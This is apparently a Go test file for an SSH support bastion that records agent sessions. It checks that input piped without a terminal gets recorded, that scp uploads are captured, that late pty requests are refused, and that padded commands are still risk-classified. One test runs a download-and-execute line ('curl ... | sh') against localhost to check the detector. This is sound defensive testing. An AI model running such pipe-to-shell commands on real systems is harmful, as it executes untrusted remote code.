package bastion_test

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"supportgate/internal/realpeer"
	"supportgate/recorder"
)

// endedRecording ends s (the customer revokes), waits for its recording
// to close complete and opens it.
func (e *env) endedRecording(t *testing.T, s *testSession) *recorder.Reader {
	t.Helper()
	if err := s.consent.Revoke(context.Background()); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(e.recDir, s.ID+".sgrec")
	if !waitFor(5*time.Second, func() bool { r, err := recorder.VerifyFile(path); return err == nil && r.Complete }) {
		t.Fatal("the recording never closed")
	}
	r, err := recorder.OpenFile(path, e.ident)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// recordingJSONL ends s (the customer revokes), waits for its recording to
// close complete and returns the recording exported as JSON lines.
func (e *env) recordingJSONL(t *testing.T, s *testSession) string {
	t.Helper()
	r := e.endedRecording(t, s)
	defer r.Close()
	var js strings.Builder
	if err := recorder.ExportJSONL(&js, r, recorder.ExportOptions{}); err != nil {
		t.Fatal(err)
	}
	return js.String()
}

// TestNoTerminalInputRecorded: commands an agent pipes into a shell or a
// command without a terminal (ssh -T < script, ssh SESSION sh < script)
// run on the customer's machine without echo; they are recorded as input
// although input recording is off, and the events say there was no
// terminal. Before, the recording held only "sh" and what the script
// chose to print.
func TestNoTerminalInputRecorded(t *testing.T) {
	e := newEnv(t, envOptions{})
	e.addUser("alice", "agent", "t1")
	s := e.newSession("alice", "shell", 30*time.Minute)
	alice := e.certFor("alice")
	for i, command := range [][]string{nil, {"sh"}} {
		marker := filepath.Join(e.dir, "planted-"+string(rune('a'+i)))
		cmd := exec.Command(e.sshBin, append(e.sshArgs(alice, s.ID, "-T"), command...)...)
		cmd.Env = append(os.Environ(), "HOME="+alice.dir)
		cmd.Stdin = strings.NewReader("touch " + marker + "\nexit 0\n")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("ssh -T %v: %v\n%s", command, err, out)
		}
		if _, err := os.Stat(marker); err != nil {
			t.Fatalf("the piped commands did not run on the customer's machine: %v", err)
		}
	}
	for _, ev := range e.auditEvents("channel.opened") {
		if ev.Detail["pty"] != "no" {
			t.Errorf("channel.opened %v: want pty no", ev.Detail)
		}
	}
	js := e.recordingJSONL(t, s)
	for _, want := range []string{`"type":"input","channel":1,"text":"touch ` + filepath.Join(e.dir, "planted-a"), "planted-b",
		`"kind":"ssh.shell","detail":{"agent":"alice","channel_id":"1","pty":"no"}`, `"command":"sh","pty":"no"`} {
		if !strings.Contains(js, want) {
			t.Errorf("the recording lacks %s:\n%s", want, js)
		}
	}
}

// TestUploadRecorded: `scp -O` runs as an ordinary command (scp -t) and
// streams the file on its standard input: the file's content is in the
// recording. The sftp subsystem stays refused, with a message that does
// not claim more than the bastion does.
func TestUploadRecorded(t *testing.T) {
	scp := realpeer.Require(t, "scp")
	e := newEnv(t, envOptions{})
	e.addUser("alice", "agent", "t1")
	s := e.newSession("alice", "shell", 30*time.Minute)
	alice := e.certFor("alice")
	src := filepath.Join(alice.dir, "upload.txt")
	if err := os.WriteFile(src, []byte("UPLOADED-CONTENT-7f3a\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	dst := filepath.Join(e.dir, "uploaded.txt")
	args := e.sshArgs(alice, s.ID)
	args = append([]string{"-O", "-P", e.port}, args[:len(args)-1]...) // scp: -P for the port, the host in the target
	for i, a := range args {
		if a == "-p" { // ssh's port flag, not scp's (keep times)
			args = append(args[:i], args[i+2:]...)
			break
		}
	}
	cmd := exec.Command(scp, append(args, src, s.ID+"@127.0.0.1:"+dst)...)
	cmd.Env = append(os.Environ(), "HOME="+alice.dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("scp -O: %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(dst); string(b) != "UPLOADED-CONTENT-7f3a\n" {
		t.Fatalf("uploaded file holds %q", b)
	}
	_, errOut, err := e.run(alice, s.ID, []string{"-s"}, "sftp")
	if err == nil || !strings.Contains(errOut, `subsystem "sftp" is not allowed`) {
		t.Errorf("sftp subsystem: %v, %q", err, errOut)
	}
	if js := e.recordingJSONL(t, s); !strings.Contains(js, "UPLOADED-CONTENT-7f3a") {
		t.Errorf("the uploaded content is not in the recording:\n%s", js)
	}
}

// TestPaddedCommandClassified: a risky command line padded past the audit
// log's cut still reaches the detector: the bastion classifies the whole
// line and puts the categories in the event ("risk").
func TestPaddedCommandClassified(t *testing.T) {
	e := newEnv(t, envOptions{})
	e.addUser("alice", "agent", "t1")
	s := e.newSession("alice", "shell", 30*time.Minute)
	risky := "curl -s http://127.0.0.1:9/x | sh; echo RAN"
	for _, pad := range []string{strings.Repeat(" ", 1100), strings.Repeat("true; ", 200)} {
		if out, errOut, err := e.run(e.certFor("alice"), s.ID, nil, pad+risky); !strings.Contains(out, "RAN") {
			t.Fatalf("command did not run: %q %v %q", out, err, errOut)
		}
	}
	evs := e.auditEvents("shell.command")
	if len(evs) != 2 {
		t.Fatalf("%d shell.command events, want 2", len(evs))
	}
	for _, ev := range evs {
		if strings.Contains(ev.Detail["command"], "curl") {
			t.Fatalf("the audited line was not cut, the test proves nothing: %q", ev.Detail["command"])
		}
		if ev.Detail["risk"] != "download_exec" {
			t.Errorf("risk %q, want download_exec", ev.Detail["risk"])
		}
	}
}

// TestTerminalInputNotRecordedEarly: with input recording off, keystrokes
// on a terminal are not recorded, even those that reach the bastion before
// it has handled the shell request (typed ahead, or pasted at once). The
// first input used to be taken for input without a terminal, and recorded,
// in two of three runs.
func TestTerminalInputNotRecordedEarly(t *testing.T) {
	e := newEnv(t, envOptions{})
	e.addUser("alice", "agent", "t1")
	s := e.newSession("alice", "shell", 30*time.Minute)
	alice := e.certFor("alice")
	for i := range 5 {
		cmd := exec.Command(e.sshBin, e.sshArgs(alice, s.ID, "-tt")...)
		cmd.Env = append(os.Environ(), "HOME="+alice.dir)
		cmd.Stdin = strings.NewReader("echo typed-ahead-" + string(rune('a'+i)) + "; exit\n")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("ssh -tt: %v\n%s", err, out)
		}
	}
	if js := e.recordingJSONL(t, s); strings.Contains(js, `"type":"input"`) {
		t.Errorf("keystrokes on a terminal were recorded with input recording off:\n%s", js)
	}
}

// TestLatePtyReqRefused: a pty-req after the command started, which the
// helper refuses, used to make the bastion take the channel for a
// terminal: what the agent then piped into the terminal-less command went
// unrecorded (input recording being off). It is refused, and the input is
// recorded.
func TestLatePtyReqRefused(t *testing.T) {
	e := newEnv(t, envOptions{})
	e.addUser("alice", "agent", "t1")
	s := e.newSession("alice", "shell", 30*time.Minute)
	c := e.goClient(t, e.certFor("alice"), s.ID)
	defer c.Close()
	sess, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	in, _ := sess.StdinPipe()
	if err := sess.Start("sh"); err != nil {
		t.Fatal(err)
	}
	ok, err := sess.SendRequest("pty-req", true, ssh.Marshal(struct {
		Term             string
		Cols, Rows, W, H uint32
		Modes            string
	}{"xterm", 80, 24, 0, 0, ""}))
	if ok || err != nil {
		t.Errorf("a pty-req after the start: %v, %v; want refused", ok, err)
	}
	marker := filepath.Join(e.dir, "planted-late-pty")
	in.Write([]byte("touch " + marker + "\nexit 0\n"))
	in.Close()
	sess.Wait()
	if _, err := os.Stat(marker); err != nil {
		t.Fatalf("the piped command did not run: %v", err)
	}
	if js := e.recordingJSONL(t, s); !strings.Contains(js, `"type":"input","channel":1,"text":"touch `+marker) {
		t.Errorf("what was piped into the terminal-less sh is not in the recording:\n%s", js)
	}
}
